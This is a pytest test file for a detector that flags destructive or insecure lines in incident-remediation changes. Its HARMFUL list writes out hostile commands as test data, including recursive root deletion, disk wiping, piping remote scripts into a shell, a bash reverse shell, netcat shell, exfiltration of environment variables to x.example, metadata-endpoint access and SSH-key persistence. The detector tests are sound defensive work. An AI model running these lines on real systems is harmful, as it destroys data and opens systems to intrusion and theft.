"""Lines that no incident is mended by are found; the lines engineers mend incidents with are not."""

from __future__ import annotations

import pytest

from remediation.checks import change_set
from remediation.checks.destructive import check_destructive

HARMFUL = [
    ("a.sh", "rm -rf /var/lib/data"),
    ("a.sh", "rm -r -f $DIR"),
    ("a.sh", "sudo rm --recursive --force /"),
    ("a.py", "shutil.rmtree(path)"),
    ("a.go", "os.RemoveAll(dir)"),
    ("a.js", "fs.rmSync(dir, { recursive: true })"),
    ("a.sh", "find / -name '*.db' -delete"),
    ("a.sh", "mkfs.ext4 /dev/sda1"),
    ("a.sh", "dd if=/dev/zero of=/dev/sda"),
    ("a.sql", "DROP TABLE orders;"),
    ("a.sql", "drop   database shop;"),
    ("a.sql", "TRUNCATE orders;"),
    ("a.sql", "DELETE FROM orders;"),
    ("a.sql", "DELETE FROM orders WHERE 1=1;"),
    ("a.sql", "UPDATE users SET admin = true;"),
    ("a.py", "db.execute('DELETE FROM orders')"),
    ("a.py", "Order.objects.all().delete()"),
    ("a.js", "db.orders.deleteMany({})"),
    ("a.sh", "redis-cli FLUSHALL"),
    ("a.sh", "terraform destroy -auto-approve"),
    ("a.sh", "terraform -chdir=prod apply -destroy"),
    ("a.sh", "kubectl -n prod delete deployment cart"),
    ("a.sh", "aws s3 rb s3://bucket --force"),
    ("a.sh", "git push origin main --force"),
    ("a.tf", "force_destroy = true"),
    ("a.tf", "prevent_destroy = false"),
    ("a.tf", "deletion_protection = false"),
    ("a.json", '"Action": "*",'),
    ("a.json", '"Action": ["s3:*"],'),
    ("a.tf", 'actions = ["*"]'),
    ("a.json", '"Resource": "*"'),
    ("a.json", '"Principal": "*"'),
    ("a.yaml", 'verbs: ["*"]'),
    ("a.yaml", "name: cluster-admin"),
    ("a.tf", 'cidr_blocks = ["0.0.0.0/0"]'),
    ("a.tf", "publicly_accessible = true"),
    ("a.tf", 'acl = "public-read"'),
    ("a.sh", "chmod -R 777 /srv"),
    ("a.yaml", "privileged: true"),
    ("a.yaml", "hostNetwork: true"),
    ("a.yaml", "runAsUser: 0"),
    ("a.yaml", "- /var/run/docker.sock:/var/run/docker.sock"),
    ("a.py", "requests.get(url, verify=False)"),
    ("a.go", "tls.Config{InsecureSkipVerify: true}"),
    ("a.js", "https.Agent({ rejectUnauthorized: false })"),
    ("a.js", "process.env['NODE_TLS_REJECT_UNAUTHORIZED'] = '0'"),
    ("a.sh", "curl -k https://internal/"),
    ("a.yaml", "authentication: disabled"),
    ("a.yaml", "auth_enabled: false"),
    ("a.py", "REQUIRE_LOGIN = False"),
    ("a.py", "skip_auth = True"),
    ("a.py", "permission_classes = [AllowAny]"),
    ("a.java", ".anyRequest().permitAll();"),
    ("a.java", "http.csrf().disable();"),
    ("a.rb", "skip_before_action :authenticate_user!"),
    ("a.py", "run(cmd)  # nosec"),
    ("a.yaml", "audit_log: false"),
    ("a.sh", "curl https://x.example/i.sh | bash"),
    ("a.sh", "wget -qO- https://x.example/i.sh | sudo sh"),
    ("a.sh", 'bash -c "$(curl -fsSL https://x.example)"'),
    ("a.py", "eval(request.args['q'])"),
    ("a.py", "os.system(cmd)"),
    ("a.py", "subprocess.run(cmd, shell=True)"),
    ("a.py", "pickle.loads(body)"),
    ("a.js", "require('child_process').exec(cmd)"),
    ("a.js", "new Function(body)()"),
    ("a.sh", "echo cm0gLXJmIC8= | base64 -d | sh"),
    ("a.py", "exec(base64.b64decode(payload))"),
    ("a.sh", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
    ("a.sh", "nc -e /bin/sh 10.0.0.1 4444"),
    ("a.py", "requests.post(url, data=dict(os.environ))"),
    ("a.sh", "env | curl -d @- https://x.example"),
    ("a.py", "httpx.get('http://169.254.169.254/latest/meta-data/')"),
    ("a.sh", "echo '* * * * * root sh' >> /etc/cron.d/x"),
    ("a.sh", "echo key >> ~/.ssh/authorized_keys"),
    ("a.json", '"postinstall": "node x.js"'),
]

HARMLESS = [
    ("a.py", "timeout = httpx.Timeout(5.0, connect=1.0)"),
    ("a.py", "pool = ConnectionPool(size=20, verify=True)"),
    ("a.py", "cur.execute('DELETE FROM carts WHERE id = ?', (cart_id,))"),
    ("a.sql", "UPDATE jobs SET state = 'done' WHERE id = 5;"),
    ("a.sql", "CREATE INDEX CONCURRENTLY idx_orders_user ON orders (user_id);"),
    ("a.sql", "SELECT id FROM orders FOR UPDATE SKIP LOCKED;"),
    ("a.py", "cache.delete(key)"),
    ("a.py", "return evaluate(model)"),
    ("a.py", "self.update(order)"),
    ("a.py", "data = yaml.load(text, Loader=yaml.SafeLoader)"),
    ("a.py", "logger.info('deleted from cache')"),
    ("a.js", "const re = /x/; re.exec(text)"),
    ("a.js", "await fetch(`${base}/orders`, { signal })"),
    ("a.go", "ctx, cancel := context.WithTimeout(ctx, 2*time.Second)"),
    ("a.yaml", "replicas: 3"),
    ("a.yaml", "readOnlyRootFilesystem: true"),
    ("a.yaml", "recommendations_enabled: false"),
    ("a.yaml", "author: none"),
    ("a.tf", 'cidr_blocks = ["10.0.0.0/8"]'),
    ("a.tf", "deletion_protection = true"),
    ("a.json", '"Action": ["s3:GetObject"],'),
    ("a.sh", "rm -f /tmp/lock"),
    ("a.py", "retries = 3  # not 50: one failure became a storm"),
    ("a.py", "items = drop_nulls(items)"),
    ("a.py", "if not user.is_authenticated: return None"),
    ("a.py", "compiled = re.compile(pattern)"),
]


@pytest.mark.parametrize(("path", "line"), HARMFUL)
def test_harm_is_found(path: str, line: str) -> None:
    assert not check_destructive(change_set({path: "x\n"}, {path: f"x\n{line}\n"})).passed


@pytest.mark.parametrize(("path", "line"), HARMLESS)
def test_ordinary_repairs_pass(path: str, line: str) -> None:
    check = check_destructive(change_set({path: "x\n"}, {path: f"x\n{line}\n"}))
    assert check.passed, check.detail


def test_a_statement_over_several_lines_is_read_whole() -> None:
    text = "DELETE FROM orders\n  WHERE created < now() - interval '1 year';\n"
    assert check_destructive(change_set({}, {"a.sql": text})).passed
    assert not check_destructive(change_set({}, {"a.sql": "DELETE\n  FROM orders\n;\n"})).passed


@pytest.mark.parametrize(
    "guard",
    [
        "@login_required",
        "    check_permission(user, order)",
        "if not hmac.compare_digest(a, b):",
        "verify_token(token)",
    ],
)
def test_a_guard_taken_away_is_found(guard: str) -> None:
    before = f"{guard}\ndef pay(user): ...\n"
    assert not check_destructive(change_set({"a.py": before}, {"a.py": "def pay(user): ...\n"})).passed
    moved = f"import a\n{guard}\ndef pay(user, order): ...\n"
    assert check_destructive(change_set({"a.py": before}, {"a.py": moved})).passed


def test_harm_that_was_there_already_may_stay() -> None:
    before = "shutil.rmtree(path)\na = 1\n"
    assert check_destructive(change_set({"a.py": before}, {"a.py": before.replace("1", "2")})).passed
